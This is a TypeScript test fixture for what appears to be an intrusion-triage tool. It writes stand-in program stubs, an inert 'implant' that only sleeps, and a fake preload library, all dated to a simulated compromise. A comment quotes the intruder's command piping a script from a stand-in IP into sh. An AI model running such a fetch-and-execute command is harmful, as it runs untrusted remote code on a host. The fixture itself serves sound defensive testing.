/**
 * Stand-in executables of the fixture root: tiny scripts with fixed contents
 * at the paths startup items reference, so `file_metadata` has real hashes.
 * /opt/backup/bin/backup-agent is left out on purpose (a unit that points at
 * a missing program: `exists: false`).
 */
import { put } from './write.js';

/**
 * When the planted files were written: 2026-11-22T02:15:47Z, seconds after
 * the intruder (logged in as `sysupdate`) ran `curl -fsSL http://198.51.100.23/x.sh | sh`.
 */
export const PLANTED_MTIME = new Date('2026-11-22T02:15:47Z');

const stub = (path: string) => `#!/bin/sh\n# triage test fixture: stand-in for ${path}\nexit 0\n`;

/** Legitimate programs, each a stand-in script, mode 0755. */
const PROGRAMS = [
  '/usr/sbin/sshd',
  '/usr/sbin/nginx',
  '/usr/sbin/start-stop-daemon',
  '/usr/sbin/cron',
  '/usr/lib/apt/apt-helper',
  '/usr/lib/apt/apt.systemd.daily',
  '/usr/bin/curl',
  '/usr/bin/run-parts',
  '/usr/bin/gnome-software',
  '/usr/libexec/at-spi-bus-launcher',
  '/usr/lib/udev/hwclock-set',
  '/usr/local/bin/usb-backup',
];

/** The planted implant: what dbus-update.service, its timer and alice's at job run. */
const IMPLANT = `#!/bin/sh
# triage test fixture: planted implant (harmless; it only sleeps)
while :; do sleep 300; done
`;

/** The planted preload library: ELF magic, then a fixed marker. */
const PRELOAD_LIBRARY = new Uint8Array([
  0x7f,
  0x45,
  0x4c,
  0x46,
  0x02,
  0x01,
  0x01,
  0x00,
  ...new TextEncoder().encode('triage test fixture: planted preload library\n'),
]);

/**
 * Writes the stand-in programs and the planted implant files.
 *
 * @param root - the fixture root directory on this machine
 */
export async function buildPrograms(root: string): Promise<void> {
  for (const path of PROGRAMS) await put(root, path, stub(path), { mode: 0o755 });
  await put(root, '/var/tmp/.x/dbus-update', IMPLANT, { mode: 0o755, mtime: PLANTED_MTIME });
  await put(root, '/usr/lib/libsystem.so', PRELOAD_LIBRARY, { mode: 0o755, mtime: PLANTED_MTIME });
}
